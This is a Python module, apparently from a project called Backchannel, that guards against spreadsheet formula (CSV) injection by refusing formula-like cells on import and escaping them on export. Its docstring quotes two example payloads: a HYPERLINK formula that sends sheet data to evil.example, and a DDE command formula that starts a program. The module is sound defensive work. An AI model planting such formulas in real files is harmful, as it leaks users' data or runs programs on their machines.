"""Spreadsheet formula injection (CSV injection): refuse it on import, defuse it on export.

A spreadsheet opening a CSV file runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` (also after a tab or carriage return) as a formula:
``=HYPERLINK("https://evil.example/?"&A1)`` sends the sheet away,
``=cmd|' /C calc'!A0`` starts a program through DDE. Framework-free.

Two rules, on purpose of different width:

* :func:`escape_cell` (export) follows OWASP: every text cell whose first
  character (or first after blanks) is one of ``= + - @ TAB CR`` gets a
  leading ``'``, so spreadsheets
  show it as text. Numbers (``-1``, ``+41 22 123 45 67`` is not one) are left
  alone: they are harmless and Pol.is files need their ``-1`` votes.
* :func:`formula_like` (import) refuses what reads as a formula: ``=`` or ``@``
  first (after any leading whitespace), or ``+``/``-`` followed by a formula's
  punctuation (``(``, ``|``, ``!``, ``=``). A bullet such as ``- first point``,
  a phone number or a negative number is ordinary text.

:func:`unescape_cell` undoes :func:`escape_cell` when reading Backchannel's own
exports back, so an export round-trips.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_BLANKS = " \t\r\n"
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
_PHONE_OR_NUMBER = re.compile(r"[+-]?[\d\s().,/-]*\d[\d\s().,/-]*")
_FORMULA_PUNCTUATION = re.compile(r"[(|!=]")

FIX = (
    "a cell that starts with =, +, - or @ runs as a formula when the file is "
    "opened in a spreadsheet: remove that first character, or put a ' before it "
    "to keep it as text"
)


def formula_like(value: str) -> bool:
    """Whether a free-text value would run as a spreadsheet formula."""
    text = value.lstrip(_BLANKS)
    if not text:
        return False
    first = text[0]
    if first in "=@":
        return True
    if first in "+-":
        if _PHONE_OR_NUMBER.fullmatch(text):
            return False
        return bool(_FORMULA_PUNCTUATION.search(text))
    return False


def escape_cell(value: Any) -> Any:
    """A cell safe to open in a spreadsheet (OWASP: a leading ``'``)."""
    if not isinstance(value, str) or not value:
        return value
    if _starts_like_formula(value) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    if unescape_cell(value) != value:  # "'=x" typed as such: keep it through a read
        return "'" + value
    return value


def _starts_like_formula(value: str) -> bool:
    # Spreadsheets ignore leading blanks: " =1+1" is a formula too.
    return value[0] in TRIGGERS or value.lstrip(_BLANKS)[:1] in TRIGGERS


def escape_row(row: Iterable[Any]) -> list[Any]:
    return [escape_cell(v) for v in row]


def unescape_cell(value: str) -> str:
    """Undo :func:`escape_cell` (a ``'`` followed by a trigger character)."""
    rest = value[1:].lstrip("'")
    if value[:1] == "'" and rest and _starts_like_formula(rest):
        return value[1:]
    return value
